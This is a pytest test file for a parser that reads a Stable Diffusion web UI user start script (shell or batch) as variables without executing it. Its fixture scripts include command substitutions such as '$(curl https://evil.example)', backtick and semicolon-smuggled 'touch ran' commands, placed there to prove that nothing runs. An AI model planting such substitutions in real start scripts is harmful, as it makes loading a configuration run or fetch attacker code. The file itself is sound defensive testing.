"""A user's webui-user script sets variables, and nothing in it is run."""

from __future__ import annotations

from pathlib import Path

import pytest

from modules.start_script import read_start_script

SH = """\
#!/bin/bash
#########################################################
# Uncomment and change the variables below to your need:#
#########################################################
#install_dir="/home/$(whoami)"
# Commandline arguments for webui.py, for example: export COMMANDLINE_ARGS="--medvram --opt-split-attention"
export COMMANDLINE_ARGS="--listen --lora-dir '/my loras' ${EXTRA} --port 7000"   # mine
python_cmd="python3"
export GIT="git"
export TORCH_COMMAND="pip install torch --index-url https://mirror.example/whl"
export PYTORCH_CUDA_ALLOC_CONF=garbage_collection_threshold:0.9,max_split_size_mb:512
export TORCH_INDEX_URL=$(curl https://evil.example)
export INDEX_URL=`touch ran`
SD_WEBUI_LOG_LEVEL='debug' ; touch ran
touch ran
export LD_PRELOAD=libtcmalloc.so
"""

BAT = """\
@echo off\r
\r
set PYTHON=\r
set GIT=\r
set VENV_DIR=\r
set COMMANDLINE_ARGS=--xformers --medvram ^\r
 --ckpt-dir "D:\\my models" %EXTRA%\r
rem set INDEX_URL=https://evil.example\r
SET "Torch_Index_Url=https://mirror.example/cu"\r
\r
call webui.bat\r
"""


def read(folder: Path, name: str, text: str, **environ: str) -> tuple[dict[str, str], list[str]]:
    (folder / name).write_bytes(text.encode())
    known = dict(environ)
    notes = read_start_script(folder, known, windows=name.endswith(".bat"))
    return known, notes


def test_a_shell_script_is_read_and_not_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # F002
    monkeypatch.chdir(tmp_path)
    environ, notes = read(tmp_path, "webui-user.sh", SH, EXTRA="--api")
    assert environ == {
        "EXTRA": "--api",
        "COMMANDLINE_ARGS": "--listen --lora-dir '/my loras' --api --port 7000",
        "TORCH_COMMAND": "pip install torch --index-url https://mirror.example/whl",
        "PYTORCH_CUDA_ALLOC_CONF": "garbage_collection_threshold:0.9,max_split_size_mb:512",
        "SD_WEBUI_LOG_LEVEL": "debug",
    }
    assert [note.split()[1] for note in notes] == ["TORCH_INDEX_URL", "INDEX_URL"]
    assert "is the output of a program, which is not run" in notes[0]
    assert not (tmp_path / "ran").exists()


def test_a_batch_file_is_read_and_not_run(tmp_path: Path) -> None:
    # F002
    environ, notes = read(tmp_path, "webui-user.bat", BAT, EXTRA="--api")
    assert environ == {
        "EXTRA": "--api",
        "COMMANDLINE_ARGS": '--xformers --medvram   --ckpt-dir "D:\\my models" --api',
        "TORCH_INDEX_URL": "https://mirror.example/cu",
    }
    assert notes == []


@pytest.mark.parametrize("name", ["webui-user.sh", "webui-user.bat"])
def test_what_the_environment_says_already_stands(tmp_path: Path, name: str) -> None:
    line = "set COMMANDLINE_ARGS=--listen" if name.endswith("bat") else "export COMMANDLINE_ARGS=--listen"
    assert read(tmp_path, name, line, COMMANDLINE_ARGS="--nowebui")[0] == {"COMMANDLINE_ARGS": "--nowebui"}
    assert read(tmp_path, name, line)[0] == {"COMMANDLINE_ARGS": "--listen"}


@pytest.mark.parametrize("text", ["", "export", "export X", "=", '"', 'export COMMANDLINE_ARGS="--a\n--b"', "\0" * 99])
def test_a_script_of_another_kind_sets_nothing(tmp_path: Path, text: str) -> None:
    assert read(tmp_path, "webui-user.sh", text) == ({}, [])
    assert read(tmp_path, "webui-user.bat", text) == ({}, [])


def test_without_a_script_nothing_is_set(tmp_path: Path) -> None:
    environ: dict[str, str] = {}
    assert read_start_script(tmp_path, environ) == []
    assert environ == {}
